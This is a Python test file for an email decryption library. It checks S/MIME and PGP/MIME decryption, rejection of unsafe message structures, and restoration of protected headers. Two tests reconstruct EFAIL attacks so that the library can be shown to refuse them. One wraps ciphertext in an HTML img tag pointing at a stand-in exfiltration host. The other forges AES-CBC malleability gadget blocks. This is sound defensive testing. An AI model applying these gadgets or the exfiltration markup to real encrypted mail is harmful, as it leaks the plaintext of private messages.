"""A message is decrypted where the encrypted part is the whole of it and what is inside is one entity."""

from __future__ import annotations

import os
from collections.abc import Sequence

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from smilla.copies import rewrap
from smilla.decrypt.message import decrypted, rejoined
from smilla.errors import NotDecrypted
from smilla.model import Format, Message, Style
from tests.openpgp_maker import armoured, packet
from tests.unit.decrypt.material import OUTSIDE, TEXT, message, owner, pgp_mime, smime, written
from tests.unit.decrypt.test_cms import in_cbc

PKESK = packet(1, b"\x03" + bytes(8) + b"\x01" + (2048).to_bytes(2, "big") + b"\xa7" + os.urandom(255))


class Engine:
    """An OpenPGP engine that returns what it was told to."""

    def __init__(self, content: bytes = TEXT, said: tuple[str, str] = ("none", "")) -> None:
        self.content, self.said = content, said
        self.asked: list[bytes] = []
        self.certificates: list[bytes] = []

    def opened(self, raw: bytes) -> bytes:
        self.asked.append(raw)
        return self.content

    def signature(self, raw: bytes, raw_certificates: Sequence[bytes]) -> tuple[str, str]:
        assert raw in self.asked
        self.certificates = list(raw_certificates)
        return self.said


def failure(one: Message, engine: Engine | None = None) -> NotDecrypted:
    with pytest.raises(NotDecrypted) as caught:
        decrypted(one, [owner().held], engine)
    return caught.value


def encrypted_data(size: int = 200) -> bytes:
    """Packets that look like an encrypted message to everybody without the key."""
    return PKESK + packet(18, b"\x01" + os.urandom(size))


# --- what is decrypted -------------------------------------------------------------------------------------


@pytest.mark.parametrize("cipher", ["aes256-cbc", "aes256-gcm"])
def test_smime_message_gives_its_entity(cipher: str) -> None:
    found = decrypted(smime(written(TEXT, owner(), style=Style(cipher))), [owner().held])
    assert (found.form, found.entity.raw, found.authenticated) == (Format.SMIME, TEXT, cipher.endswith("gcm"))


def test_pgp_mime_message_gives_its_entity() -> None:
    engine, data = Engine(), encrypted_data()
    found = decrypted(pgp_mime(armoured(data)), (), engine)
    assert (found.form, found.entity.raw, found.authenticated) == (Format.OPENPGP, TEXT, True)
    assert engine.asked == [data]


def test_pgp_mime_as_exchange_rewrites_it_gives_its_entity() -> None:
    data = encrypted_data()
    parts = (
        b"\r\n--b\r\nContent-Type: text/plain\r\n\r\n\r\n"
        b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        b"--b\r\nContent-Type: application/octet-stream\r\n\r\n" + armoured(data) + b"\r\n--b--\r\n"
    )
    engine = Engine()
    one = message(OUTSIDE + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts)
    assert decrypted(one, (), engine).entity.raw == TEXT
    assert engine.asked == [data]


# --- what is not -------------------------------------------------------------------------------------------


def test_encrypted_part_beside_anything_readable_is_not_decrypted() -> None:
    """EFAIL's direct exfiltration: the parts before and after open and close a tag around the text."""
    part = b"".join(smime(written(TEXT, owner()), b"").body.blocks())
    kind = b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    html = b"Content-Type: text/html\r\n\r\n<img src='http://efail.test/"
    body = b"--b\r\n" + html + b"\r\n--b\r\n" + kind + part + b"\r\n--b--\r\n"
    assert (
        failure(message(OUTSIDE + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + body)).code == "not_encrypted"
    )
    for after in (b"A footer of a mailing list\r\n", b"\r\n--\r\nhello\r\n"):
        trailing = message(OUTSIDE + kind + part + after)
        assert failure(trailing).code == "not_encrypted"
    assert failure(message(OUTSIDE + b"\r\nhello\r\n")).code == "not_encrypted"


def test_armour_with_text_around_it_is_not_decrypted() -> None:
    whole = armoured(encrypted_data())
    for text in (b"hello\r\n" + whole, whole + b"bye\r\n"):
        assert failure(pgp_mime(text), Engine()).code == "not_encrypted"
        assert failure(message(OUTSIDE + b"\r\n" + text), Engine()).code == "not_encrypted"


def test_armour_as_the_body_holds_no_entity() -> None:
    assert failure(message(OUTSIDE + b"\r\n" + armoured(encrypted_data())), Engine()).code == "inline"


def test_openpgp_data_without_modification_detection_never_reach_the_engine() -> None:
    engine = Engine()
    one = pgp_mime(armoured(PKESK + packet(9, os.urandom(200))))
    assert failure(one, engine).code == "no_integrity"
    assert engine.asked == []


def test_without_a_key_for_the_format_nothing_is_tried() -> None:
    with pytest.raises(NotDecrypted, match="S/MIME"):
        decrypted(smime(written(TEXT, owner())), ())
    assert failure(pgp_mime(armoured(encrypted_data()))).code == "no_key"


def test_what_is_encrypted_inside_again_stays_as_it_is() -> None:
    inner = b"".join(
        rewrap.applied(message(b"\r\n"), rewrap.smime(message(b"\r\n"), lambda *_: iter([written(TEXT, owner())])))
    )
    assert failure(smime(written(inner, owner()))).code == "nested"
    assert failure(pgp_mime(armoured(encrypted_data())), Engine(inner)).code == "nested"


@pytest.mark.parametrize("text", [b"hello, without a header\r\n", b"", b"Subject: a\r\n\r\nb", TEXT + b"\0"])
def test_plaintext_that_is_no_entity_is_not_handed_on(text: bytes) -> None:
    assert failure(smime(written(text, owner(), style=Style("aes256-gcm")))).code == "no_entity"
    assert failure(pgp_mime(armoured(encrypted_data())), Engine(text)).code == "no_entity"
    assert failure(smime(written(text, owner()))).code == "undecryptable"


def test_malformed_body_is_handed_on_where_a_tag_vouches_for_it_alone() -> None:
    odd = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>\x02\xff"
    assert decrypted(smime(written(odd, owner(), style=Style("aes256-gcm"))), [owner().held]).entity.raw == odd
    assert failure(smime(written(odd, owner()))).code == "undecryptable"


def test_malleability_gadget_of_efail_is_refused_like_a_wrong_padding() -> None:
    """The attacker knows the first block, "Content-Type: te".  She makes blocks of her own out of it, each after one
    of random octets, and puts them before the text (EFAIL, section 5.1)."""
    cek, known, iv = b"\7" * 32, b"Content-Type: te", bytes(16)
    secret = known + b"xt/html; charset=utf-8\r\n\r\nthe canary sings"
    secret += bytes([16 - len(secret) % 16]) * (16 - len(secret) % 16)
    ciphertext = Cipher(algorithms.AES(cek), modes.CBC(iv)).encryptor().update(secret)
    first = ciphertext[:16]

    def gadget(wanted: bytes) -> bytes:
        return bytes(a ^ b ^ c for a, b, c in zip(iv, known, wanted, strict=True)) + first

    forged = b"".join((first, gadget(b"xt/html\r\n\r\n<p a="), gadget(b'"><img src="//ef'), iv, ciphertext))
    shown = Cipher(algorithms.AES(cek), modes.CBC(iv)).decryptor().update(forged)
    assert shown.startswith(known)
    assert (b"xt/html\r\n\r\n<p a=" in shown, b'"><img src="//ef' in shown, b"the canary sings" in shown) == (True,) * 3
    assert decrypted(smime(in_cbc(secret, owner(), cek=cek)), [owner().held]).entity.raw.endswith(b"the canary sings")
    wrong = failure(smime(in_cbc(shown, owner(), cek=cek)))
    assert (wrong.code, str(wrong)) == ("undecryptable", "it does not decrypt to one MIME entity")


# --- put back in place -------------------------------------------------------------------------------------


def rejoin(outside: bytes, inside: bytes) -> bytes:
    one = smime(written(inside, owner(), style=Style("aes256-gcm")), outside)
    found = decrypted(one, [owner().held])
    return b"".join(rewrap.applied(one, rejoined(one, found.entity, found.form)))


MARK = b"X-Smilla: decrypted; format=smime\r\n"


def test_entity_takes_the_place_of_the_ciphertext_octet_for_octet() -> None:
    assert rejoin(OUTSIDE, TEXT) == OUTSIDE + TEXT.replace(b"\r\n\r\n", b"\r\n" + MARK + b"\r\n", 1)


def test_missing_mime_version_is_added() -> None:
    outside = OUTSIDE.replace(b"MIME-Version: 1.0\r\n", b"")
    one = message(outside + b"Content-Type: application/pkcs7-mime\r\n\r\n")
    found = decrypted(smime(written(TEXT, owner())), [owner().held])
    assert b"".join(rewrap.applied(one, rejoined(one, found.entity, found.form))).count(b"MIME-Version: 1.0\r\n") == 1


@pytest.mark.parametrize("mark", [b'hp="cipher"', b"protected-headers=v1", b'protected-headers="v1"; hp=cipher'])
def test_hidden_subject_comes_back(mark: bytes) -> None:
    protected = b"Subject: The canary\r\nKeywords: bird\r\nHP-Outer: Subject: [...]\r\n" + TEXT.replace(
        b"utf-8", b"utf-8; " + mark, 1
    )
    found = rejoin(OUTSIDE, protected)
    assert b"\r\nSubject: The canary\r\n" in found
    assert b"\r\nKeywords: bird\r\n" in found
    assert b"[...]" not in found


def test_hidden_subject_of_a_signed_payload_comes_back() -> None:
    payload = b"Subject: The canary\r\n" + TEXT.replace(b"utf-8", b'utf-8; hp="cipher"', 1)
    signature = b"Content-Type: application/pkcs7-signature\r\n\r\nAAAA"
    signed = (
        b"Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\n"
        + payload
        + b"\r\n--s\r\n"
        + signature
        + b"\r\n--s--\r\n"
    )
    found = rejoin(OUTSIDE, signed)
    assert found.count(b"\r\nSubject: The canary\r\n") == 2  # outside, and in the payload as it was signed
    assert b"[...]" not in found


@pytest.mark.parametrize("kind", [b"utf-8", b'utf-8; hp="clear"', b'utf-8; protected-headers=v1; hp="clear"'])
def test_fields_that_nothing_protects_stay_where_they_are(kind: bytes) -> None:
    inside = b"Subject: The canary\r\n" + TEXT.replace(b"utf-8", kind, 1)
    assert b"Subject: [...]\r\n" in rejoin(OUTSIDE, inside)
    assert b"The canary\r\n" not in rejoin(OUTSIDE, inside)


def test_sender_and_recipients_from_inside_are_never_shown() -> None:
    inside = b"From: boss@example.org\r\nReply-To: x@x.test\r\nTo: all@example.org\r\n" + TEXT.replace(
        b"utf-8", b'utf-8; hp="cipher"', 1
    )
    found = rejoin(OUTSIDE, inside)
    assert b"boss" not in found
    assert b"x.test" not in found


def test_a_field_twice_inside_is_left_outside() -> None:
    inside = b"Subject: one\r\nSubject: two\r\n" + TEXT.replace(b"utf-8", b'utf-8; hp="cipher"', 1)
    assert b"Subject: [...]\r\n" in rejoin(OUTSIDE, inside)


def test_eight_bit_subject_becomes_encoded_words() -> None:
    inside = "Subject: Grün\r\n".encode() + TEXT.replace(b"utf-8", b'utf-8; hp="cipher"', 1)
    assert b"\r\nSubject: =?utf-8?b?R3LDvG4=?=\r\n" in rejoin(OUTSIDE, inside)


def test_foreign_mark_goes() -> None:
    found = rejoin(OUTSIDE + b"X-Smilla: encrypted; format=smime\r\n", TEXT)
    assert found.count(b"X-Smilla") == 1
    assert MARK in found
